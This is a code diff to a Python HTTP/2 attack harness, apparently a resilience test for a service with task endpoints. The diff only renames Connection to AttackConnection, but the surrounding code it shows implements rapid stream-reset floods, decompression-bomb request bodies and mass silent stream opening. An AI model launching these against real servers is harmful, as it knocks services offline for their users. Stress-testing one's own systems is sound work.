@@ -52,7 +52,7 @@ EMPTY_REQUEST = bytes(5)
 CANCEL = struct.pack(">I", 8)
 
 
-class Connection:
+class AttackConnection:
     """One HTTP/2 connection that opens calls and counts those that the server ended."""
 
     def __init__(self, address: str, ca: str | None = None) -> None:
@@ -125,16 +125,16 @@ class Connection:
 class Attack:
     """What one connection does when it opens and each time the server ended some of its calls."""
 
-    open: Callable[[Connection, str, int], None]
+    open: Callable[[AttackConnection, str, int], None]
     """With the number of connections."""
-    again: Callable[[Connection, str, int], None]
-    more: Callable[[Connection, str], None] | None = None
+    again: Callable[[AttackConnection, str, int], None]
+    more: Callable[[AttackConnection, str], None] | None = None
     """Opens and resets up to RESETS calls, and ignores the answers of the server."""
     reconnect: bool = True
     """Whether a connection that the server closed is opened again."""
 
 
-def _send_bomb(connection: Connection, address: str, body: bytes, *, packed: bool) -> None:
+def _send_bomb(connection: AttackConnection, address: str, body: bytes, *, packed: bool) -> None:
     stream = connection.stream()
     headers = headers_of(address, BATCH_CREATE)
     if packed:
@@ -147,7 +147,7 @@ def _send_bomb(connection: Connection, address: str, body: bytes, *, packed: boo
     connection.send(sent)
 
 
-def _send_resets(connection: Connection, address: str, *, whole: bool) -> None:
+def _send_resets(connection: AttackConnection, address: str, *, whole: bool) -> None:
     """Open calls and reset them, if ``whole`` after their request."""
     headers = headers_of(address, GET_TASK)
     sent = b""
@@ -159,17 +159,17 @@ def _send_resets(connection: Connection, address: str, *, whole: bool) -> None:
     connection.send(sent)
 
 
-def _open_silent(connection: Connection, address: str, calls: int) -> None:
+def _open_silent(connection: AttackConnection, address: str, calls: int) -> None:
     headers = headers_of(address, GET_TASK)
     connection.send(b"".join(frame(HEADERS, END_HEADERS, connection.stream(), headers) for _ in range(calls)))
 
 
-def _packed(connection: Connection, address: str, calls: int) -> None:
+def _packed(connection: AttackConnection, address: str, calls: int) -> None:
     for _ in range(calls):
         _send_bomb(connection, address, BOMB, packed=True)
 
 
-def _plain(connection: Connection, address: str, calls: int) -> None:
+def _plain(connection: AttackConnection, address: str, calls: int) -> None:
     # Within the window of a new stream, so that nothing has to be waited for.
     for _ in range(calls):
         _send_bomb(connection, address, PLAIN_BOMB[: (1 << 16) - FRAME_BYTES], packed=False)
@@ -207,7 +207,7 @@ def run(
 
     def connect() -> None:
         with contextlib.suppress(OSError):
-            connection = Connection(address, ca)
+            connection = AttackConnection(address, ca)
             totals["connections"] += 1
             selector.register(connection.socket, selectors.EVENT_READ, connection)
             attack.open(connection, address, clients)
@@ -216,7 +216,7 @@ def run(
         connect()
     while time.monotonic() < end:
         for key, _ in selector.select(timeout=min(pause, 0.01) if attack.more is None else 0):
-            connection: Connection = key.data
+            connection: AttackConnection = key.data
             connection.take()
         now = time.monotonic()
         for key in list(selector.get_map().values()):
@@ -237,7 +237,7 @@ def run(
     return totals
 
 
-def _leave(selector: selectors.BaseSelector, connection: Connection, totals: dict[str, int]) -> None:
+def _leave(selector: selectors.BaseSelector, connection: AttackConnection, totals: dict[str, int]) -> None:
     selector.unregister(connection.socket)
     connection.socket.close()
     totals["begun"] += connection.begun
